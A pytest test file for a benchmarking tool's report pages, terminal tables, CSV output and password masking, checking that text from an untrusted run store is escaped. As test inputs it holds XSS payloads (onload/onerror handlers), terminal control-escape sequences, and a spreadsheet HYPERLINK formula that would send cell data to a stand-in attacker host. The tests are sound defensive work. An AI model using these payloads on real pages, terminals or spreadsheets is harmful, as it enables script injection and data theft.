"""A run store is anyone's text: a store someone sent holds names, errors, a metric's name and
an environment that reach the report page and the terminal, and a store's URL may carry its
password in a place the masking must find.

* The report pages (``optimlab report``'s and the advisor's) escape that text in attributes
  too, so a ``"`` cannot close an ``alt`` and add an ``onload``; and a Content-Security-Policy
  lets the page run no script and load nothing but its own embedded figures.
* :func:`~optimlab.bench.store.server.masked_url` hides the password of every form libpq
  takes (``user:password@``, ``?password=``, ``sslpassword=``, ``passfile=``), in messages
  and on the page.
* The text tables and notes (``optimlab runs``, ``optimlab report``) write control
  characters (ESC, OSC, CSI, BEL, DEL) as visible escapes instead of sending them to the
  terminal.
"""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import re
import sqlite3
import subprocess
import sys
from datetime import datetime, timezone
from html.parser import HTMLParser

import pytest
import torch
from torch import nn

from optimlab._table import visible
from optimlab.bench.report import list_sweeps, read_sweep, summary_table, sweep_heading, write_report
from optimlab.bench.store import RunStore, StoreError
from optimlab.bench.store.server import masked_url
from optimlab.bench.sweep import SweepSpec, run_sweep
from optimlab.bench.tasks import Task
from optimlab.bench.trainer import TrainConfig
from optimlab.cli import main

pytestmark = [pytest.mark.filterwarnings("ignore::optimlab.bench.advisor.AdvisorWarning"),
              # the payload's control characters in the figures' labels: no glyph, drawn as boxes
              pytest.mark.filterwarnings("ignore:Glyph .* missing from font:UserWarning")]

#: closes a double-quoted attribute and adds an event handler
ATTR = 'x" onload="document.title=\'XSS\'" y="'
#: closes an element and opens one that runs a script
TAG = '"><img src=x onerror="alert(1)"><b q=\'x'
#: clear screen, set the window title (OSC ... BEL), a C1 CSI colour, DEL
ANSI = "\x1b[2J\x1b]0;PWNED\x07\x9b31mRED\x7f"
#: what no text output may hold: C0 but tab and line feed, DEL, C1
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
SECRET = "S3CRET"
#: a store's URL with its password as libpq's query parameter
PG_URL = f"postgresql://alice@db.example:5432/runs?sslmode=require&password={SECRET}"
METRIC = ATTR + TAG + ANSI


def _task() -> Task:
    """A small linear regression (the advisor's and the sweep's training take a blink)."""
    g = torch.Generator().manual_seed(0)
    x = torch.randn(64, 4, generator=g)
    y = x @ torch.randn(4, 1, generator=g)
    return Task(name="toy", x_train=x[:48], y_train=y[:48], x_test=x[48:], y_test=y[48:],
                models={"linear": lambda: nn.Linear(4, 1)}, default_model="linear",
                loss="mse", metric="loss", description="test")


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """A real sweep of two runs, then its stored text replaced by payloads (as a store
    someone sent holds them), and its report written."""
    root = tmp_path_factory.mktemp("untrusted")
    db = root / "evil.db"
    with RunStore(db) as store:
        spec = SweepSpec(task="toy", optimizers=("sgd",), lrs=(0.1,), seeds=2,
                         config=TrainConfig(steps=4, batch_size=16, eval_every=2))
        sweep = run_sweep(spec, store, task=_task())
    con = sqlite3.connect(db)
    config = json.loads(con.execute("SELECT config FROM sweeps WHERE id = ?", (sweep,)).fetchone()[0])
    config["metric"]["name"] = METRIC
    con.execute("UPDATE sweeps SET name = ?, model = ?, config = ?, environment = ? WHERE id = ?",
                ("n" + TAG + ANSI, "m" + TAG + ANSI, json.dumps(config),
                 json.dumps({"hostname": TAG + ANSI, "versions": {"torch": TAG}}), sweep))
    run = con.execute("SELECT min(id) FROM runs WHERE sweep_id = ?", (sweep,)).fetchone()[0]
    con.execute("UPDATE runs SET status = 'failed', error = ? WHERE id = ?",
                ("E" + TAG + "\r" + ANSI, run))
    con.commit()
    con.close()
    with RunStore(db, readonly=True) as store:
        paths = write_report(store, sweep, root / "out", store_path=PG_URL)
    yield db, sweep, paths["report"].read_text("utf-8")


class _Page(HTMLParser):
    """The start tags (name, attributes) and the text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def _check_attributes(page: _Page, alts: list[str]) -> None:
    """No tag of the page has an attribute the page does not write itself (an ``on...``
    handler, an injected one), and its images' ``alt`` are ``alts``, the payload whole (its
    control characters written as escapes, as the figures' labels are)."""
    allowed = {"html": {"lang"}, "meta": {"charset", "http-equiv", "content"}, "img": {"src", "alt"},
               "div": {"class", "tabindex", "role", "aria-label"}, "p": {"class", "style"},
               "td": {"class"}, "ul": {"class"}}
    for tag, attrs in page.tags:
        names = [name for name, _ in attrs]
        assert not [n for n in names if n.startswith("on")], (tag, attrs)
        assert len(names) == len(set(names)) and set(names) <= allowed.get(tag, set()), (tag, attrs)
    images = [dict(attrs) for tag, attrs in page.tags if tag == "img"]
    assert [i["alt"] for i in images] == [visible(alt) for alt in alts]
    assert all(i["src"].startswith("data:image/png;base64,") for i in images)


def _check_csp(page: _Page) -> None:
    """A Content-Security-Policy in the head that runs no script and loads nothing but data:
    images (the figures) and the page's own style."""
    metas = [dict(attrs) for tag, attrs in page.tags if tag == "meta"]
    csp = [m["content"] for m in metas if (m.get("http-equiv") or "").lower() == "content-security-policy"]
    assert len(csp) == 1, metas
    tags = [tag for tag, _ in page.tags]
    assert tags.index("meta", 1) < tags.index("title") < tags.index("body")  # in the head
    directives = {d.split()[0]: d.split()[1:] for d in csp[0].split(";") if d.strip()}
    assert directives["default-src"] == ["'none'"]
    assert directives["img-src"] == ["data:"]
    assert directives["style-src"] == ["'unsafe-inline'"]
    assert "script-src" not in directives and "unsafe-eval" not in csp[0]


def test_report_page_escapes_the_stores_text_in_attributes(poisoned):
    _, _, html = poisoned
    page = _Page(html)
    _check_attributes(page, [
        f"test {METRIC} and train loss against the step, each optimizer at its best learning rate",
        f"final test {METRIC} against the learning rate, per optimizer"])
    # the text is shown as it is, escaped: no element of the payload's
    assert any(visible(METRIC) in text for text in page.text)
    assert any(("E" + TAG) in text for text in page.text)
    assert "<img src=x" not in html and "<b q=" not in html


def test_report_page_has_a_content_security_policy(poisoned):
    _check_csp(_Page(poisoned[2]))


def test_report_page_hides_the_stores_password(poisoned):
    html = poisoned[2]
    assert SECRET not in html
    assert "Store: postgresql://alice@db.example:5432/runs?sslmode=require&amp;password=***," in html


def test_advice_page_escapes_attributes_and_has_a_csp(tmp_path):
    from optimlab.bench.advice_report import _html
    from optimlab.bench.advisor import advise_task

    with RunStore(tmp_path / "runs.db") as store:
        advice = advise_task(_task(), optimizers=["sgd"], steps=9, batch_size=16, seeds=1,
                             store=store)
        advice = dataclasses.replace(advice, metric={**advice.metric, "name": METRIC},
                                     store_path=PG_URL)
        html = _html(advice, store, {"range_tests": b"png", "tournament": b"png"},
                     datetime.now(timezone.utc))
    page = _Page(html)
    _check_attributes(page, [
        "train loss against the learning rate per candidate, with the three rules' picks",
        f"successive-halving scores per rung and the final rung's validation {METRIC} curves"])
    _check_csp(page)
    assert SECRET not in html


@pytest.mark.parametrize(("url", "shown"), [
    (f"postgresql://alice:{SECRET}@db.example:5432/runs", "postgresql://alice:***@db.example:5432/runs"),
    (f"postgresql://db.example/runs?password={SECRET}&sslmode=require",
     "postgresql://db.example/runs?password=***&sslmode=require"),
    (f"postgresql://db.example/runs?sslmode=require&PassWord={SECRET}",
     "postgresql://db.example/runs?sslmode=require&PassWord=***"),
    (f"postgresql://db.example/runs?sslpassword={SECRET}&sslkey=/k.pem",
     "postgresql://db.example/runs?sslpassword=***&sslkey=/k.pem"),
    (f"postgresql://db.example/runs?passfile=/home/alice/{SECRET}.pgpass",
     "postgresql://db.example/runs?passfile=***"),
    (f"postgresql:///runs?host=/var/run/postgresql&password={SECRET}",
     "postgresql:///runs?host=/var/run/postgresql&password=***"),
    (f"postgresql+psycopg://alice@db.example/runs?pass%77ord={SECRET}&connect_timeout=5",
     "postgresql+psycopg://alice@db.example/runs?pass%77ord=***&connect_timeout=5"),
    (f"postgresql://db.example/runs?password={SECRET};x&application_name=a",
     "postgresql://db.example/runs?password=***&application_name=a"),
    (f"postgresql://alice:{SECRET}@db.example/runs?password={SECRET}",
     "postgresql://alice:***@db.example/runs?password=***"),
    # libpq splits on & only: a ? in a value is the value's (it showed what followed it)
    (f"postgresql://db.example/runs?password=ab?{SECRET}&x=1",
     "postgresql://db.example/runs?password=***&x=1"),
    ("postgresql://alice@db.example/runs?sslmode=require", "postgresql://alice@db.example/runs?sslmode=require"),
    ("runs/evil.db", "runs/evil.db"),
])
def test_masked_url_hides_every_password_form(url, shown):
    assert masked_url(url) == shown
    assert SECRET not in masked_url(url)


def test_store_messages_hide_a_query_password(capsys):
    pytest.importorskip("sqlalchemy")
    with pytest.raises(StoreError) as raised:
        RunStore(f"mysql://db.example/runs?password={SECRET}")
    assert SECRET not in str(raised.value) and "password=***" in str(raised.value)
    pytest.importorskip("psycopg")
    # nothing listens on port 1: the connection is refused at once, and the message names the store
    url = f"postgresql://127.0.0.1:1/runs?sslmode=disable&password={SECRET}"
    assert main(["runs", "--db", url]) == 2
    out = capsys.readouterr()
    assert "127.0.0.1:1/runs?sslmode=disable&password=***" in out.err
    assert SECRET not in out.out + out.err


def _check_terminal_text(text: str) -> None:
    assert not CONTROL.findall(text), CONTROL.findall(text)
    assert "\\x1b]0;PWNED\\x07\\x9b31mRED\\x7f" in text  # shown, as escapes


def test_runs_and_report_text_escape_control_characters(poisoned, capsys):
    db, sweep, _ = poisoned
    assert main(["runs", "--db", str(db)]) == 0
    out = capsys.readouterr()
    _check_terminal_text(out.out + out.err)
    with RunStore(db, readonly=True) as store:
        _check_terminal_text(list_sweeps(store))
        _check_terminal_text(list_sweeps(store, optimizers_width=10))
        sw = read_sweep(store, sweep)
        heading = sweep_heading(sw)
        table = summary_table(sw)  # what `optimlab report` prints, with the heading
    _check_terminal_text(heading)
    _check_terminal_text(table)
    assert "E\"><img src=x" in table  # the failed run's error, in the notes
    with RunStore(db, readonly=True) as store:  # a name given that the store contradicts
        with pytest.raises(ValueError) as raised:
            summary_table(store, sweep, metric_name="accuracy")
    assert not CONTROL.findall(str(raised.value))


def test_the_report_command_prints_no_control_character_of_the_stores(poisoned, tmp_path):
    """The figures are labelled with the stored metric name: matplotlib warned of each
    control character in it as a missing glyph, naming the character itself, and the
    command passed the warning on as it was (ESC, BEL and DEL reached the terminal)."""
    db, sweep, _ = poisoned
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    done = subprocess.run([sys.executable, "-m", "optimlab", "report", str(sweep), "--db",
                           str(db), "--out", str(tmp_path / "rep")], capture_output=True,
                          text=True, env=env, cwd=tmp_path, timeout=120)
    assert done.returncode == 0, done.stderr[-600:]
    assert not CONTROL.findall(done.stdout + done.stderr), (done.stdout + done.stderr)[-600:]


def test_results_csv_quotes_text_a_spreadsheet_would_run(tmp_path):
    """A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
    (``=HYPERLINK(...)`` sends what the sheet holds elsewhere when clicked): the store's text
    in ``results.csv`` (an error, a hyperparameter's name and value) is written after a
    ``'``, which shows the text itself; numbers, negative ones included, stay numbers."""
    db = tmp_path / "evil.db"
    with RunStore(db) as store:
        spec = SweepSpec(task="toy", optimizers=("sgd",), lrs=(0.1,), seeds=2,
                         config=TrainConfig(steps=4, batch_size=16, eval_every=2))
        sweep = run_sweep(spec, store, task=_task())
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    con = sqlite3.connect(db)
    first, second = (r[0] for r in con.execute(
        "SELECT id FROM runs WHERE sweep_id = ? ORDER BY id", (sweep,)))
    con.execute("UPDATE runs SET status = 'failed', error = ? WHERE id = ?", (formula, first))
    con.execute("UPDATE runs SET hparams = ? WHERE id = ?",
                (json.dumps({"lr": 0.1, "@cmd": "+1+2", "shift": -0.5, "given": "-0.25"}), second))
    con.commit()
    con.close()
    with RunStore(db, readonly=True) as store:
        paths = write_report(store, sweep, tmp_path / "out")
    with open(paths["results"], newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    cells = header + [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]
    assert "'@cmd" in header and "shift" in header
    by_id = {row[0]: dict(zip(header, row)) for row in rows}
    assert by_id[str(first)]["error"] == "'" + formula
    assert by_id[str(second)]["'@cmd"] == "'+1+2"
    assert float(by_id[str(second)]["shift"]) == -0.5  # a number is not text: left as it is
    assert by_id[str(second)]["given"] == "-0.25"  # nor text that is a plain number
